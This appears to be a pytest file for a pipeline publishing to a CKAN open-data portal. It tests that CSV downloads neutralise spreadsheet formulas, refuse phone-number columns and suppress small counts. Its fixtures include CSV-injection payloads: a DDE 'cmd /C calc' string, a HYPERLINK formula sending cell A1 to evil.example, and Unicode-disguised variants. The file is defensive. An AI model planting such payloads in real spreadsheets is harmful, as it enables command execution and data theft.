"""What the public downloads carries no formula, no personal column and no small count (real CKAN)."""

import csv
import io
import urllib.request

import pyarrow.parquet as pq
import pytest
from helpers import tamper

from publish.run import publish_marts

pytestmark = pytest.mark.portal


def _resources(ckan, name):
    package = ckan.action.package_show(id=name)
    return package, {r["ntm_kind"]: r for r in package["resources"]}


def _download(url) -> bytes:
    with urllib.request.urlopen(url) as resp:
        return resp.read()


def _csv_rows(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def _datastore_records(ckan, resource_id):
    return ckan.action.datastore_search(resource_id=resource_id, limit=1000)["records"]


DDE = "-2+3+cmd|' /C calc'!A0"


def test_only_whole_negative_numbers_keep_their_minus():
    from publish.files import neutralise

    assert [neutralise(v) for v in ("-5", "-0,5", "-1.797", "-2+3", DDE, "-", "+84912", "\tx", 5)] == [
        "-5",
        "-0,5",
        "-1.797",
        "'-2+3",
        "'" + DDE,
        "'-",
        "'+84912",
        "'\tx",
        5,
    ]


# Formulas a spreadsheet still runs, disguised from a check on the ASCII signs alone (issue #26).
DISGUISED = (
    '＝HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',  # full-width equals sign
    "＠SUM(1+1)*cmd|' /C calc'!A0",
    "－2+3+cmd|' /C calc'!A0",  # full-width hyphen-minus: no number as a whole
    "﹦2+5",  # small equals sign
    "⁼1+1",  # superscript equals sign
    *(f"{invisible}=1+1" for invisible in ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u200b\ufeff\u200e")),
    "\u200b＋84912",
)
SEEN_AS_TEXT = ("-5", "-0,5", "－5", "－0,5", "Đồng Tháp", "Ｘã Ａn Bình", "\u200bxã An Bình", "≠1", "")


def test_disguised_formulas_are_neutralised_as_written(tmp_path):
    import pyarrow as pa

    from publish.files import neutralise, write_csv

    assert [neutralise(v) for v in DISGUISED] == ["'" + v for v in DISGUISED]
    assert [neutralise(v) for v in SEEN_AS_TEXT] == list(SEEN_AS_TEXT)
    # The published CSV holds each cell as written, a formula behind its `'`.
    mart = tmp_path / "m.parquet"
    pq.write_table(
        pa.table({"unit_name": [*DISGUISED, *SEEN_AS_TEXT], "n": range(len(DISGUISED + SEEN_AS_TEXT))}), mart
    )
    rows = _csv_rows(write_csv(mart, tmp_path / "m.csv").read_bytes())
    assert [r["unit_name"] for r in rows] == ["'" + v for v in DISGUISED] + list(SEEN_AS_TEXT)


def test_formula_cells_are_neutralised_and_negative_numbers_kept(ckan, marts_copy, prefix):
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    tamper(
        marts_copy,
        "fact_ocop_products",
        f"""
        select * replace (
            case when row_number() over (order by product_name) = 1 then '{hyperlink.replace("'", "''")}'
                 else product_name end as product_name,
            case when row_number() over (order by product_name) = 2 then '@SUM(A1:A9)' else category end as category,
            case when row_number() over (order by product_name) = 3 then '-5'
                 when row_number() over (order by product_name) = 4 then '{DDE.replace("'", "''")}'
                 else producer end as producer,
            case when row_number() over (order by product_name) = 3 then -5 else ecommerce_platform_count end
                as ecommerce_platform_count)
        from m""",
    )
    mart = marts_copy / "marts" / "fact_ocop_products.parquet"
    [published] = publish_marts({"fact_ocop_products": mart}, {}, marts_copy).datasets
    _, resources = _resources(ckan, published.name)
    for rows in (
        _csv_rows(_download(resources["csv"]["url"])),
        _csv_rows(_download(f"{ckan.address}/datastore/dump/{resources['csv']['id']}")),
    ):
        by_product = {r["product_name"]: r for r in rows}
        assert "'" + hyperlink in by_product and hyperlink not in by_product
        assert {r["category"] for r in rows} >= {"'@SUM(A1:A9)"}
        negative = next(r for r in rows if r["producer"] == "-5")
        assert negative["ecommerce_platform_count"] == "-5"
        assert "'" + DDE in {r["producer"] for r in rows}  # starts with "-" and a digit, yet no number
        assert not [v for r in rows for v in r.values() if v and v[0] in "=+@\t\r"]
    records = _datastore_records(ckan, resources["csv"]["id"])
    assert -5 in {r["ecommerce_platform_count"] for r in records}
    # The Parquet file is the data as built: typed values for programs, not spreadsheets.
    parquet = pq.read_table(io.BytesIO(_download(resources["parquet"]["url"]))).to_pylist()
    assert hyperlink in {r["product_name"] for r in parquet}


def test_a_personal_column_is_refused_before_anything_reaches_the_portal(ckan, marts_copy, prefix):
    tamper(marts_copy, "fact_cooperatives", "select *, '0912345678' as so_dien_thoai from m")
    marts = {m: marts_copy / "marts" / f"{m}.parquet" for m in ("fact_cooperatives", "fact_growing_area_codes")}
    result = publish_marts(marts, {}, marts_copy)
    assert [d.mart for d in result.datasets] == ["fact_growing_area_codes"]
    assert "so_dien_thoai" in result.refused["fact_cooperatives"]
    assert (
        "dữ liệu cá nhân" in result.refused["fact_cooperatives"]
        and "personal data" in result.refused["fact_cooperatives"]
    )
    assert not [n for n in ckan.action.package_list() if n.startswith(prefix) and "hop-tac-xa" in n]


def test_suppressed_small_counts_appear_in_no_published_resource(ckan, sample_build, marts_copy, prefix):
    import duckdb

    _, built = sample_build
    small = duckdb.sql(
        f"select unit_code, respondents from read_parquet('{built}/bronze/satisfaction_surveys/*.parquet')"
        " where respondents < 5"
    ).fetchall()
    assert small == [("30100", 3)]  # the sample: 3 people answered in Xã Mỹ Thọ
    marts = {
        m: marts_copy / "marts" / f"{m}.parquet" for m in ("fact_satisfaction_surveys", "fact_online_public_services")
    }
    published = {d.mart: d for d in publish_marts(marts, {}, marts_copy).datasets}

    _, resources = _resources(ckan, published["fact_satisfaction_surveys"].name)
    downloads = {
        "csv": _csv_rows(_download(resources["csv"]["url"])),
        "datastore dump": _csv_rows(_download(f"{ckan.address}/datastore/dump/{resources['csv']['id']}")),
        "datastore api": _datastore_records(ckan, resources["csv"]["id"]),
        "parquet": pq.read_table(io.BytesIO(_download(resources["parquet"]["url"]))).to_pylist(),
    }
    for kind, rows in downloads.items():
        [row] = [r for r in rows if r["unit_code"] == "30100"]
        assert row["respondents"] in (None, ""), kind
        assert row["satisfied_pct"] in (None, ""), kind  # 100 % of 3 people would identify them
        assert str(row["suppressed"]).lower() in ("true", "t"), kind  # the dump writes PostgreSQL booleans
    fields = {
        f["id"]: f["info"] for f in ckan.action.datastore_info(id=resources["csv"]["id"])["fields"] if f["id"] != "_id"
    }
    notes = fields["respondents"]["notes_translated"]
    assert "dưới 5" in notes["vi"] and "below 5" in notes["en"] and fields["respondents"]["notes"] == notes["vi"]

    # Counts aggregated from individual applications: none below the threshold, anywhere.
    _, resources = _resources(ckan, published["fact_online_public_services"].name)
    counts = ("applications_received", "applications_online", "applications_resolved_on_time")
    for rows in (_csv_rows(_download(resources["csv"]["url"])), _datastore_records(ckan, resources["csv"]["id"])):
        from_records = [r for r in rows if r["source"] == "records"]
        assert from_records
        for r in from_records:
            for column in counts:
                assert r[column] in (None, "") or int(r[column]) >= 5, (column, r)
